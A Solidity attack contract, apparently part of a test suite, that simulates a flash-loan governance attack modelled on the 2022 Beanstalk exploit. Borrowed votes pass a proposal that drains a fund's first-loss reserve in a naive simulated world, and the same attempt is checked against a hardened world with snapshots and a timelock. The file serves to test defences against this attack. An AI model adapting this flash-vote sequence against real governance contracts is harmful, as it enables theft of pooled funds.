// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Why} from "../../src/libraries/Why.sol";
import {Timelock} from "../../src/Timelock.sol";
import {Attack, Deed} from "./Attack.sol";
import {MomentGovernor, SnapshotGovernor, VoteToken} from "./worlds/Governors.sol";
import {HardenedWorld} from "./worlds/HardenedWorld.sol";
import {NaiveAdmin} from "./worlds/NaiveAdmin.sol";
import {NaiveWorld} from "./worlds/NaiveWorld.sol";
import {Token} from "./worlds/Token.sol";
import {World} from "./worlds/World.sol";

/// Votes borrowed for a transaction decide that the fund's first loss goes to the borrower: Beanstalk April 2022, 182
/// million USD; Fortress and Build Finance 2022 with bought votes. OpenZeppelin's snapshots leave a flash loan without a
/// vote, and what passes all the same waits in Timelock, where GuardianCouncil vetoes.
contract GovernanceFlashVote is Attack {
    uint256 internal constant PRIZE = 200_000 * USD;
    uint256 private constant LOAN = 390_000e18;
    VoteToken public immutable votes;
    MomentGovernor private immutable moment;
    SnapshotGovernor internal immutable governor;
    uint256 private _stepNow;

    /// The governor of each world is deployed here, with its token: the attack is on how it counts.
    constructor(World world_) Attack(world_) {
        votes = new VoteToken(address(lender), address(this), address(world_.maker()));
        if (world_.isHardened()) governor = _governor(HardenedWorld(address(world_)).timelock());
        else moment = new MomentGovernor(votes);
        votes.delegate(address(this));
    }

    function naiveLoss() external pure override returns (uint256) {
        return PRIZE;
    }

    function bound() external pure override returns (uint256) {
        return 0;
    }

    function steps() external pure override returns (uint256) {
        return 6;
    }

    /// The governor gets its roles; proposal; its snapshot, in that very second; the vote; its end; the timelock's delay.
    function waitBefore(uint256 step) external pure override returns (uint256) {
        uint256[6] memory waits = [uint256(12), 2 days + 1, 1 days, 12, 3 days, 2 days + 1];
        return waits[step];
    }

    /// The world is ruled by its governor: from the beginning, or after the timelock's delay.
    function others(uint256 step) external view override returns (Deed[] memory deeds) {
        bool hardened = world.isHardened();
        if (step > 1 || (step == 1 && !hardened)) return deeds;
        if (!hardened) {
            address admin = address(NaiveWorld(address(world)).admin());
            bytes memory give = abi.encodeCall(NaiveAdmin.give, (address(moment)));
            deeds = new Deed[](1);
            deeds[0] = Deed(address(world), abi.encodeCall(world.speak, (admin, give)), false);
            return deeds;
        }
        Timelock lock = HardenedWorld(address(world)).timelock();
        deeds = new Deed[](2);
        deeds[0] = _grants(step, lock, lock.PROPOSER_ROLE());
        deeds[1] = _grants(step, lock, lock.EXECUTOR_ROLE());
    }

    /// Everything under the loan, as far as it goes; without it where a loan is in the way.
    function _step(uint256 step) internal override {
        _stepNow = step;
        if (!world.isHardened() && step > 0) return;
        if (step < 4) return lender.flash(Token(address(votes)), LOAN, "");
        (address[] memory to, uint256[] memory values, bytes[] memory data) = _proposal();
        if (step == 4) governor.queue(to, values, data, keccak256("mine"));
        if (step == 5) governor.execute(to, values, data, keccak256("mine"));
    }

    function _flashed(bytes calldata) internal override {
        (address[] memory to, uint256[] memory values, bytes[] memory data) = _proposal();
        if (!world.isHardened()) {
            bytes memory run = abi.encodeCall(NaiveAdmin.run, (to[0], data[0]));
            return moment.passAndRun(address(NaiveWorld(address(world)).admin()), run);
        }
        if (_stepNow == 1) governor.propose(to, values, data, "mine");
        // In step 2 the votes are there in the second of the snapshot, and gone again when it is over.
        if (_stepNow == 3) governor.castVote(governor.hashProposal(to, values, data, keccak256("mine")), 1);
    }

    function _governor(Timelock lock) internal virtual returns (SnapshotGovernor) {
        return new SnapshotGovernor(votes, lock);
    }

    function _proposal() internal view returns (address[] memory to, uint256[] memory values, bytes[] memory data) {
        (to, values, data) = (new address[](1), new uint256[](1), new bytes[](1));
        to[0] = address(fund);
        data[0] = abi.encodeCall(fund.withdrawFirstLoss, (PRIZE, address(this), Why("mine", "mine")));
    }

    function _grants(uint256 step, Timelock lock, bytes32 role) private view returns (Deed memory) {
        HardenedWorld hardened = HardenedWorld(address(world));
        bytes memory grant = abi.encodeCall(lock.grantRole, (role, address(governor)));
        bytes memory data = step == 0
            ? abi.encodeCall(hardened.propose, (address(lock), grant, 0))
            : abi.encodeCall(hardened.execute, (address(lock), grant, 0));
        return Deed(address(world), data, false);
    }
}
